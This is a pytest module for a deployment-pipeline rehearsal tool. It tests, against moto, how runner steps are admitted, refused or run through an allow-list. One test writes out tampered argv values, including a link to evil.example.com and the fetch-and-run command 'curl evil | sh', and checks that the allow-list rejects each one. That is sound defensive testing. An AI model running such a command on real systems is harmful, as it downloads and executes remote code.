"""Deploy-runner steps in the rehearsal: admitted at run time, built-in jobs run on moto.

As in test_rehearse.py, what reached each environment is read back from moto (`Result.live`);
what happened to each step is the interpreter's record (`Result.events`) and its output.
"""

from __future__ import annotations

import copy
import json
import shutil
from pathlib import Path

import pytest

from pipelines.aws.errors import FAILED, OK
from pipelines.console import ConsoleReporter
from pipelines.invoker.allowlist import Refused
from pipelines.jobs.main import Change, plan_summary
from pipelines.local import steps
from pipelines.local.interpreter import RehearsalError
from pipelines.local.rehearse import RehearsalOptions, rehearse
from tests.local.test_rehearse import (
    MARKER,
    MOTO_WARNINGS,
    _declaration,
    _interpreter,
    _runners,
)
from tests.support import EXAMPLE

pytestmark = MOTO_WARNINGS

SMOKE_RUNNER = """
  smoke:
    on: codebuild
    image: public.ecr.aws/docker/library/python:3.12-slim
    max_wait_minutes: 10
    scripts:
      check:
        command: [python, -m, smoke]
        allowed_options: {--url: "https://[a-z0-9.-]+/[a-z0-9/_-]*"}
"""
SMOKE_STEP = """
steps:
  after_deploy:
    - smoke.check --url https://dev.shop.example.com/health
"""
# A variable that resolves to what the option's pattern refuses (':' in a change set name):
# synth admits it (the value is not known yet), the invoker refuses it at run time.
REFUSED_STEP = (
    "plan.plan --stack shop-staging-web --template Templates::shop-staging-web.json "
    '--change-set "preview-#{SourceVariables.ImageDigest}"'
)
# Admitted, but the job exits 1: the template is not in the Templates artifact.
FAILING_STEP = "plan.plan --stack shop-staging-web --template Templates::missing.json"


def _example_with(tmp_path: Path, staging_step: str | None = None) -> Path:
    """The example plus a CodeBuild step in dev (smoke.check) and, first before staging's
    deployment, `staging_step`."""
    environments = tmp_path / "environments"
    shutil.copytree(EXAMPLE, environments)
    with (environments / "pipeline.yaml").open("a") as pipeline:
        pipeline.write(SMOKE_RUNNER)
    with (environments / "dev.yaml").open("a") as dev:
        dev.write(SMOKE_STEP)
    if staging_step:
        staging = environments / "staging.yaml"
        text = staging.read_text()
        marker = "  before_deploy:\n"
        assert marker in text
        staging.write_text(text.replace(marker, f"{marker}    - {json.dumps(staging_step)}\n"))
    return environments


def _runner_events(result) -> list[tuple[str, str, str]]:
    return [(e.stage, e.what, e.detail) for e in result.events if e.what.startswith("runner ")]


# The example, end to end ---------------------------------------------------------------------


@pytest.mark.slow
def test_the_plan_step_runs_its_change_set_job_on_moto_and_the_approval_shows_its_summary(
    capsys: pytest.CaptureFixture[str],
) -> None:
    result = rehearse(RehearsalOptions(EXAMPLE, approve="all"), ConsoleReporter())
    output = capsys.readouterr().out
    [digest] = result.digests
    assert result.exit_code == OK
    assert result.meant == ["dev", "staging", "prod"]
    for item in result.live:
        assert (item.parameter, item.running) == (digest, digest), item

    # The runner stacks were deployed, the invoker from the package uploaded before them.
    assert "invoker.zip uploaded to s3://shop-artifacts-111111111111-eu-west-1/runner/" in output
    assert _runner_events(result) == [
        ("staging", "runner stood in", "migrate.migrate"),
        ("prod", "runner ran", "plan.plan"),
        ("prod", "runner stood in", "migrate.migrate"),
    ]
    # The migrations run the released image: admitted with it, not run.
    release = f"111111111111.dkr.ecr.eu-west-1.amazonaws.com/shop-web@{digest}"
    assert (
        output.count(
            f"migrate.migrate: stood in: migrate.migrate (image {release}) not run; the rehearsal "
            "checked it against the allow-list"
        )
        == 2
    )
    # The plan ran the real job, in prod's account, against the stack moto holds there.
    assert "plan.plan: running the built-in job in-process, in 333333333333 eu-west-1 as " in output
    assert "| Change set release-preview for stack shop-prod-web (UPDATE):" in output
    assert "| ::pipelines-output:: changeSetId=arn:aws:cloudformation:eu-west-1:333333333333:" in (
        output
    )
    # What the job printed for the new ImageUri is what the approver reads.
    summary = "shop-prod-web: " + plan_summary(
        [Change("Modify", "TaskDefinition", "AWS::ECS::TaskDefinition", "-")]
    )
    assert f"::pipelines-output:: summary={summary}" in output
    [approval] = [e for e in result.events if (e.stage, e.what) == ("prod", "approval approved")]
    assert approval.detail.endswith(f"Plans: {summary}")
    assert "#{" not in approval.detail


# Steps that fail -----------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    ("step", "failure", "event"),
    [
        (
            REFUSED_STEP,
            "plan.plan FAILED: refused: value 'preview-sha256:",
            "runner refused",
        ),
        (
            FAILING_STEP,
            "plan.plan FAILED: plan.plan failed: exit code 1: error: cannot read template "
            "Templates::missing.json: No such file or directory",
            "runner failed",
        ),
    ],
    ids=["refused-at-run-time", "job-exits-1"],
)
def test_a_step_that_fails_fails_its_stage_and_later_environments_are_untouched(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], step: str, failure: str, event: str
) -> None:
    result = rehearse(
        RehearsalOptions(_example_with(tmp_path, step), approve="all"), ConsoleReporter()
    )
    output = capsys.readouterr().out
    [digest] = result.digests
    assert result.exit_code == FAILED
    assert failure in output
    by_env = {item.environment: (item.parameter, item.running) for item in result.live}
    assert by_env == {
        "dev": (digest, digest),
        "staging": (result.bootstrap, result.bootstrap),
        "prod": (result.bootstrap, result.bootstrap),
    }
    assert [(e.stage, e.what) for e in result.events if e.what in ("failed", "succeeded")] == [
        ("Source", "succeeded"),
        ("dev", "succeeded"),
        ("staging", "failed"),
    ]
    assert not [e for e in result.events if e.stage == "prod"]
    # dev's CodeBuild step (a user's image) was admitted and stood in for; then the failure.
    assert _runner_events(result)[0] == ("dev", "runner stood in", "smoke.check")
    assert _runner_events(result)[-1][:2] == ("staging", event)
    assert "smoke.check: stood in: smoke.check (image public.ecr.aws/docker/library/" in output


# Without AWS ---------------------------------------------------------------------------------


def _action(declaration: dict, name: str, stage: str | None = None) -> dict:
    [found] = [
        a
        for s in declaration["stages"]
        if stage in (None, s["name"])
        for a in s["actions"]
        if a["name"] == name
    ]
    return found


def test_a_runner_action_must_call_the_invoker_or_a_runner_project_of_the_app(
    tmp_path: Path,
) -> None:
    environments = _example_with(tmp_path)
    declaration, runners = _declaration(environments), _runners(environments)
    _interpreter(declaration, runners)

    other_function = copy.deepcopy(declaration)
    _action(other_function, "plan.plan")["configuration"]["FunctionName"] = "someone-else"
    with pytest.raises(
        RehearsalError, match="FunctionName 'someone-else' is not the app's invoker"
    ):
        _interpreter(other_function, runners)

    other_project = copy.deepcopy(declaration)
    _action(other_project, "smoke.check")["configuration"]["ProjectName"] = "shop-runner-nope"
    with pytest.raises(RehearsalError, match="ProjectName 'shop-runner-nope' is not one of"):
        _interpreter(other_project, runners)

    from pipelines.local.interpreter import Hooks, Interpreter

    hooks = Hooks(lambda *a: True, lambda s: None, lambda t: None)
    with pytest.raises(RehearsalError, match=r"needs the allow-list runners\.json"):
        Interpreter(None, declaration, "111111111111", "eu-west-1", hooks, marker_function=MARKER)


def test_the_invoker_request_is_admitted_with_the_full_check_once_resolved() -> None:
    runners = _runners()
    config = _action(_declaration(), "plan.plan")["configuration"]
    # Unresolved, the --parameter value is a variable, which only synth may defer.
    with pytest.raises(Refused, match="--parameter does not match its pattern"):
        steps.admit_invoke(runners, config["UserParameters"])
    digest = "sha256:" + "ab" * 32
    resolved = config["UserParameters"].replace("#{SourceVariables.ImageDigest}", digest)
    admission = steps.admit_invoke(runners, resolved)
    assert admission.environment == "prod" and admission.image is None
    assert steps.runs_in_process(admission.admitted.argv)

    migrate = _action(_declaration(), "migrate.migrate", "prod")["configuration"]["UserParameters"]
    admission = steps.admit_invoke(
        runners, migrate.replace("#{SourceVariables.ImageDigest}", digest)
    )
    assert admission.image == f"111111111111.dkr.ecr.eu-west-1.amazonaws.com/shop-web@{digest}"
    assert not steps.runs_in_process(admission.admitted.argv)
    with pytest.raises(Refused, match=r"is not 111111111111\.dkr\.ecr\.eu-west-1\.amazonaws\.com/"):
        steps.admit_invoke(
            runners,
            migrate.replace(
                "111111111111.dkr.ecr.eu-west-1.amazonaws.com/shop-web@#{SourceVariables."
                "ImageDigest}",
                f"111111111111.dkr.ecr.eu-west-1.amazonaws.com/other@{digest}",
            ),
        )


def test_a_codebuild_argv_must_be_what_the_allow_list_admits(tmp_path: Path) -> None:
    environments = _example_with(tmp_path)
    runners = _runners(environments)
    config = _action(_declaration(environments), "smoke.check")["configuration"]
    admission = steps.admit_codebuild(runners, config)
    assert admission.admitted.argv == (
        "python",
        "-m",
        "smoke",
        "--url",
        "https://dev.shop.example.com/health",
    )
    assert admission.environment == "dev"

    def tampered(argv: list[str]) -> dict[str, str]:
        variables = json.loads(config["EnvironmentVariables"])
        for variable in variables:
            if variable["name"] == "PIPELINES_ARGV":
                variable["value"] = json.dumps(argv)
        return {**config, "EnvironmentVariables": json.dumps(variables)}

    for argv, reason in [
        (["python", "-m", "smoke", "--url", "http://evil.example.com/"], "does not match"),
        (["python", "-m", "smoke", "--url", "https://a.b/c", "--debug"], "not allowed"),
        (["sh", "-c", "curl evil | sh"], "no script of runner 'smoke' runs"),
    ]:
        with pytest.raises(Refused, match=reason):
            steps.admit_codebuild(runners, tampered(argv))


class _FakeCloudFormation:
    """Just enough of CloudFormation for a plan of a new stack, its errors as botocore's."""

    def describe_stacks(self, StackName: str) -> dict:
        raise _client_error("ValidationError", f"Stack with id {StackName} does not exist")

    def describe_change_set(self, ChangeSetName: str, **_: str) -> dict:
        if not ChangeSetName.startswith("arn:"):
            raise _client_error("ChangeSetNotFound", f"ChangeSet [{ChangeSetName}] does not exist")
        return {
            "ChangeSetId": ChangeSetName,
            "StackName": "s",
            "Status": "CREATE_COMPLETE",
            "ExecutionStatus": "AVAILABLE",
            "Changes": [
                {
                    "ResourceChange": {
                        "Action": "Add",
                        "LogicalResourceId": "Queue",
                        "ResourceType": "AWS::SQS::Queue",
                    }
                }
            ],
        }

    def create_change_set(self, **request: object) -> dict:
        return {
            "Id": "arn:aws:cloudformation:eu-west-1:1:changeSet/p/1",
            "StackId": "arn:aws:cloudformation:eu-west-1:1:stack/s/1",
        }


def _client_error(code: str, message: str) -> Exception:
    from botocore.exceptions import ClientError

    return ClientError({"Error": {"Code": code, "Message": message}}, "Fake")


def test_run_job_runs_a_builtin_in_process_and_collects_its_outputs() -> None:
    template = b'{"Resources": {"Queue": {"Type": "AWS::SQS::Queue"}}}'
    import io
    import zipfile

    bundle = io.BytesIO()
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr("t.json", template)
    argv = [
        *steps.JOBS,
        "cloudformation",
        "plan",
        "--stack",
        "s",
        "--template",
        "Templates::t.json",
    ]
    run = steps.run_job(
        argv,
        client=lambda service: _FakeCloudFormation(),
        variables={"PIPELINES_ENVIRONMENT": "dev"},
        artifacts={"Templates": bundle.getvalue()},
    )
    assert run.exit_code == 0, run.lines
    assert run.outputs == {
        "changeSet": "pipelines-plan",
        "changeSetId": "arn:aws:cloudformation:eu-west-1:1:changeSet/p/1",
        "summary": "s: 1 to add, 0 to modify (0 replaced), 0 to remove",
    }

    missing = steps.run_job(
        [*argv[:-1], "Templates::nope.json"],
        client=lambda service: _FakeCloudFormation(),
        variables={},
        artifacts={"Templates": bundle.getvalue()},
    )
    assert missing.exit_code == 1
    assert missing.lines[-1].startswith("error: cannot read template Templates::nope.json")

    usage = steps.run_job(
        [*steps.JOBS, "cloudformation", "plan"], client=lambda s: None, variables={}, artifacts={}
    )
    assert usage.exit_code == 2  # argparse, as the job would exit


def test_jobs_that_run_tools_are_stood_in_for() -> None:
    assert steps.runs_in_process([*steps.JOBS, "cloudformation", "apply", "--stack", "x"])
    for argv, tool in [
        ([*steps.JOBS, "terraform", "plan"], "it runs terraform"),
        ([*steps.JOBS, "build", "--context", "x"], "it runs an image build"),
        (["python", "manage.py", "migrate"], "it runs in its own image"),
    ]:
        assert not steps.runs_in_process(argv)
        assert steps.not_run_because(argv).startswith(tool)
